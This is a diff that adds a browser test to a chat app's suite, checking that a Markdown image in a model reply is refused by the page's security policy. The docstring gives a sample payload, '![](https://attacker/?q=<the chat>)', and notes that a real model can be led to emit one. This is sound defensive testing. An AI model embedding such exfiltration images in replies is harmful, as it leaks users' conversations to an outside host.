@@ -889,3 +889,41 @@ def test_a_reply_to_an_edit_shows_nothing_of_the_branch_left(server, new_page):
     wait_for_reply(page, 1, "remember your name")
     expect(messages(page).nth(0)).to_contain_text("2 / 2")
     expect(page.get_by_role("button", name="Regenerate")).to_have_count(1)
+
+
+def test_an_image_in_a_reply_is_not_fetched_from_outside(server, new_page):
+    """A reply can be made to embed ``![](https://attacker/?q=<the chat>)``: the page
+    must not fetch it (the offline model quotes the user, a real model can be led to)."""
+    import http.server
+    import threading
+
+    hits: list[str] = []
+
+    class Pixel(http.server.BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            hits.append(self.path)
+            self.send_response(404)
+            self.end_headers()
+
+        def log_message(self, *args) -> None:
+            pass
+
+    outside = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Pixel)
+    threading.Thread(target=outside.serve_forever, daemon=True).start()
+    try:
+        page = new_page(server.url)
+        page.evaluate("window.blocked = []; document.addEventListener("
+                      "'securitypolicyviolation', e => window.blocked.push(e.blockedURI))")
+        url = f"http://127.0.0.1:{outside.server_address[1]}/pixel.png?q=secret"
+        send(page, f"![pixel]({url})")
+        wait_for_reply(page, 1, "offline")
+        send(page, "what did I say?")
+        wait_for_reply(page, 3, "Earlier you said")
+        image = messages(page).nth(3).locator("img")
+        expect(image).to_have_count(1, timeout=WAIT_MS)  # drawn, as Markdown does
+        page.wait_for_function("() => window.blocked.some(u => u.includes('pixel.png'))",
+                               timeout=WAIT_MS)  # its load was tried, and refused
+        assert hits == []
+    finally:
+        outside.shutdown()
+        outside.server_close()
